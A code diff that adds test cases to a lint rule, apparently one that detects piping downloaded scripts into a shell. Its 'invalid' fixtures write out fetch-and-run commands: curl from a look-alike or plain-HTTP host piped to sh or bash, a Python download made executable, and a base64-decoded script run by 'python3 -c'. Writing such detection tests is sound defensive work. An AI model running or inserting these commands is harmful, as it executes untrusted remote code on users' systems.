@@ -3,6 +3,7 @@ import { ruleTester } from '../../rule-tester.js';
 
 ruleTester('injection.pipe-to-shell', {
   valid: [
+    { text: 'urlretrieve(url, "data.csv")\nprint(open("data.csv").read())', kind: 'code-py', name: 'downloaded data read, not run' },
     { text: 'curl -LsSf https://astral.sh/uv/install.sh | sh', kind: 'shell', name: 'official vendor installer over HTTPS' },
     { text: 'curl -s \\\n  https://api.example.net/items \\\n  | jq .', kind: 'shell', name: 'continued command piped to jq' },
     { text: 'curl -o out.json https://api.example.net/x && jq . out.json', kind: 'shell', name: 'download then read' },
@@ -15,6 +16,8 @@ ruleTester('injection.pipe-to-shell', {
     { text: '| pipe_to_shell | curl <url> | bash |', kind: 'markdown', name: 'pattern table row' },
   ],
   invalid: [
+    { text: 'urllib.request.urlretrieve(URL, agent)\nos.chmod(agent, 0o755)', kind: 'code-py', name: 'python download made executable', errors: [{ line: 1, column: 16 }] },
+    { text: 'python3 -c "$(echo aW1wb3J0IG9z | base64 --decode)"', kind: 'shell', name: 'decoded script run by python -c', errors: [{ line: 1, column: 1 }] },
     { text: 'curl -LsSf https://astral.sh.example.net/uv/install.sh | sh', kind: 'shell', name: 'look-alike of a vendor host', errors: [{ line: 1, column: 1 }] },
     { text: 'curl -LsSf http://astral.sh/uv/install.sh | sh', kind: 'shell', name: 'vendor host without TLS', errors: [{ line: 1, column: 1 }] },
     { text: 'curl -fsSL \\\n  --retry 3 \\\n  https://x.example.net/b.sh \\\n  | bash -s -- --quiet', kind: 'shell', name: 'backslash-continued lines', errors: [{ line: 1, column: 1 }] },
